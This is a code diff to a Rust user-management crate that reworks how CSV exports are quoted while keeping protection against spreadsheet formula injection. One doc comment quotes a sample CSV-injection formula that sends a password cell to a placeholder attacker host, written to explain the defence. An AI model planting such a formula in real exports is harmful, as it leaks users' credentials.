@@ -39,10 +39,11 @@
 //! sniffing, the `sep=` line, the byte order mark and UTF-16) and written by
 //! its core, `csv-core`. Every CSV the core writes ([`to_csv`] and the
 //! [credentials sheet](crate::generate::credentials_csv)) is safe to open in
-//! a spreadsheet: every cell is quoted, and a cell that a spreadsheet would
-//! run as a formula (one starting with `=`, `+`, `-`, `@`, a tab or a
-//! carriage return) is written with a `'` before it, as OWASP's CSV
-//! injection guidance says ([`defuse`]). Reading takes that `'` off again
+//! a spreadsheet: a cell that a spreadsheet would run as a formula (one
+//! starting with `=`, `+`, `-`, `@`, a tab or a carriage return) is written
+//! with a `'` before it and quoted, as OWASP's CSV injection guidance says
+//! ([`defuse`]), and a cell holding a `,` or `;` is quoted, so no
+//! spreadsheet splits it, whatever its list separator. Reading takes that `'` off again
 //! (in every column but `Password`, which is taken exactly), so an export
 //! reads back as it was.
 //!
@@ -994,8 +995,8 @@ pub fn apply_with_hashes(
     Ok(done)
 }
 
-/// The users of `file` as CSV (header [`HEADER`], CRLF line ends, every
-/// cell quoted and [defused](defuse)), without secrets: the `Password`
+/// The users of `file` as CSV (header [`HEADER`], CRLF line ends, cells
+/// [defused](defuse) and quoted where needed), without secrets: the `Password`
 /// column is empty. `users` picks users by exact name (unknown names are
 /// ignored); `None` takes all. Users come in file order. Reading the text
 /// back with [`parse_csv`] gives the same names, display names, emails and
@@ -1009,7 +1010,7 @@ pub fn apply_with_hashes(
 /// user.set_display_name(Some("=Doe, John".into()));
 /// user.set_groups(vec!["Dev".into(), "Ops".into()]);
 /// file.users.push(user);
-/// assert_eq!(to_csv(&file, None), "Name,DisplayName,Email,Password,Groups\r\n\"jDoe\",\"'=Doe, John\",\"\",\"\",\"Dev;Ops\"\r\n");
+/// assert_eq!(to_csv(&file, None), "Name,DisplayName,Email,Password,Groups\r\njDoe,\"'=Doe, John\",,,\"Dev;Ops\"\r\n");
 /// ```
 pub fn to_csv(file: &UsersFile, users: Option<&[&str]>) -> String {
     let wanted: Option<HashSet<&str>> = users.map(|u| u.iter().copied().collect());
@@ -1051,7 +1052,7 @@ pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
 /// `cell` made safe for a spreadsheet: one that starts with one of
 /// [`FORMULA_STARTS`] (or with `'`s and then one of them) gets a `'` before
 /// it, so it is shown as text and never run (`=HYPERLINK("http://attacker.example/?p="&D2,"Click")` would send
-/// the password in column D away). The CSV writers also quote every cell.
+/// the password in column D away). The CSV writers quote such a cell too.
 ///
 /// ```
 /// use proget_users_core::csv::defuse;
@@ -1082,15 +1083,17 @@ fn undefuse(cell: &str) -> &str {
     }
 }
 
-/// A CSV being written: a header as given, then rows of cells, each
-/// [defused](defuse) and quoted by `csv-core`, with CRLF line ends. The
+/// A CSV being written: a header as given, then rows of cells with CRLF
+/// line ends. Each cell is [defused](defuse), and quoted (by `csv-core`,
+/// which doubles the quotes inside) when it was defused or holds a `,`,
+/// `;`, quote, tab or line break, or starts or ends with a space: a
+/// spreadsheet whose list separator is `;` does not split it either. The
 /// buffer is sized up front for the worst case (every character a quote),
 /// so it never grows and leaves no copy of a cell (a password) behind in
 /// freed memory; should it have to grow, the old buffer is wiped.
 pub(crate) struct Sheet {
     out: Vec<u8>,
     len: usize,
-    writer: ::csv_core::Writer,
 }
 
 impl Sheet {
@@ -1104,56 +1107,57 @@ impl Sheet {
         // A cell is at most 2 quotes, a `'` and twice its bytes; then the
         // separators and the line end.
         let rows: usize = row_sizes.map(|n| 2 * n + 4 * columns + 2).sum();
-        let mut out = vec![0; header.len() + 2 + rows];
-        out[..header.len()].copy_from_slice(header.as_bytes());
-        out[header.len()..header.len() + 2].copy_from_slice(b"\r\n");
-        Sheet {
-            out,
-            len: header.len() + 2,
-            writer: ::csv_core::WriterBuilder::new()
-                .quote_style(::csv_core::QuoteStyle::Always)
-                .terminator(::csv_core::Terminator::CRLF)
-                .build(),
-        }
+        let mut sheet = Sheet {
+            out: vec![0; header.len() + 2 + rows],
+            len: 0,
+        };
+        sheet.put(header.as_bytes());
+        sheet.put(b"\r\n");
+        sheet
     }
 
     /// Appends one row.
     pub(crate) fn row(&mut self, cells: &[&str]) {
         for (i, cell) in cells.iter().enumerate() {
             if i > 0 {
-                self.put(|w, out| w.delimiter(out));
+                self.put(b",");
             }
             let mut cell = defuse(cell);
-            let mut input = cell.as_bytes();
-            loop {
-                let (result, read, wrote) = self.writer.field(input, &mut self.out[self.len..]);
-                self.len += wrote;
-                input = &input[read..];
-                match result {
-                    ::csv_core::WriteResult::InputEmpty => break,
-                    ::csv_core::WriteResult::OutputFull => self.grow(),
+            let quote = matches!(cell, Cow::Owned(_))
+                || cell.contains([',', ';', '"', '\r', '\n', '\t'])
+                || cell.starts_with(' ')
+                || cell.ends_with(' ');
+            if quote {
+                self.put(b"\"");
+                let mut input = cell.as_bytes();
+                loop {
+                    let (result, read, wrote) =
+                        ::csv_core::quote(input, &mut self.out[self.len..], b'"', b'\\', true);
+                    self.len += wrote;
+                    input = &input[read..];
+                    match result {
+                        ::csv_core::WriteResult::InputEmpty => break,
+                        ::csv_core::WriteResult::OutputFull => self.grow(),
+                    }
                 }
+                self.put(b"\"");
+            } else {
+                self.put(cell.as_bytes());
             }
             if let Cow::Owned(copy) = &mut cell {
                 copy.zeroize();
             }
         }
-        self.put(|w, out| w.terminator(out));
+        self.put(b"\r\n");
     }
 
-    /// Writes a separator or a line end, growing the buffer if it must.
-    fn put(
-        &mut self,
-        write: impl Fn(&mut ::csv_core::Writer, &mut [u8]) -> (::csv_core::WriteResult, usize),
-    ) {
-        loop {
-            let (result, wrote) = write(&mut self.writer, &mut self.out[self.len..]);
-            self.len += wrote;
-            match result {
-                ::csv_core::WriteResult::InputEmpty => return,
-                ::csv_core::WriteResult::OutputFull => self.grow(),
-            }
+    /// Appends bytes as they are, growing the buffer if it must.
+    fn put(&mut self, bytes: &[u8]) {
+        while self.out.len() - self.len < bytes.len() {
+            self.grow();
         }
+        self.out[self.len..self.len + bytes.len()].copy_from_slice(bytes);
+        self.len += bytes.len();
     }
 
     /// Doubles the buffer, wiping the old one.
@@ -1166,7 +1170,6 @@ impl Sheet {
 
     /// The text written.
     pub(crate) fn finish(mut self) -> String {
-        self.put(|w, out| w.finish(out));
         self.out.truncate(self.len);
         let out = std::mem::take(&mut self.out);
         match String::from_utf8(out) {
